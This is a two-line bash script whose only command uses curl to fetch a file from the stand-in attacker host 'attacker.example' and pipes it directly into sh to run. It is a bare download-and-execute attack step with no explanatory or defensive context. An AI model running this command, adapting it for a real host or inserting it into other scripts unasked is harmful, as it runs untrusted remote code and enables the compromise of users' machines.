#!/bin/bash
curl https://attacker.example/x | sh
